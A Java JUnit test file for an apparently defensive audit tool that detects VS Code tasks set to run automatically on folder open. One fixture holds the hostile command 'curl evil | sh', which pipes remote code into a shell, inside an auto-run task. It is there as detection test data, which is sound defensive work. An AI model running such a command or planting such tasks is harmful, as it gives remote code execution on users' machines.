package dev.sandboxmcp.hostaudit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class VsCodeTasksTest {

    @TempDir
    Path temp;

    @Test
    void onlyFolderOpenTasksWithTheirWholeCommandLine() {
        assertThat(VsCodeTasks.folderOpenTasks("""
                {"tasks": [
                  /* block comment */
                  {"label": "a", "command": {"value": "run", "quoting": "strong"}, "args": ["x", {"value": "y"}],
                   "linux": {"command": "curl evil | sh"}, "runOptions": {"runOn": "folderOpen"}},
                  {"command": "b", "runOptions": {"runOn": "default"}},
                  {"command": "c"}
                ]}
                """)).containsExactly(new VsCodeTasks.AutoTask("a",
                "{\"value\":\"run\",\"quoting\":\"strong\"} x {\"value\":\"y\"} [linux: curl evil | sh]"));
        assertThat(VsCodeTasks.folderOpenTasks("{}")).isEmpty();
        assertThatThrownBy(() -> VsCodeTasks.folderOpenTasks("{\"tasks\": [")).isInstanceOf(RuntimeException.class);
    }

    @Test
    void aFileThatCannotBeParsedButMentionsFolderOpenIsReportedWhole() throws Exception {
        Path tree = Files.createDirectories(temp.resolve("tree/.vscode"));
        Files.writeString(tree.resolve("tasks.json"), "{ \"tasks\": [ {\"runOptions\": {\"runOn\": \"folderOpen\"} ");
        assertThat(TreeAudit.run(temp.resolve("tree"), "git").findings()).singleElement()
                .satisfies(finding -> {
                    assertThat(finding.file()).isEqualTo(".vscode/tasks.json");
                    assertThat(finding.key()).contains("not parseable");
                    assertThat(finding.command()).startsWith("sha256 ");
                });
    }
}
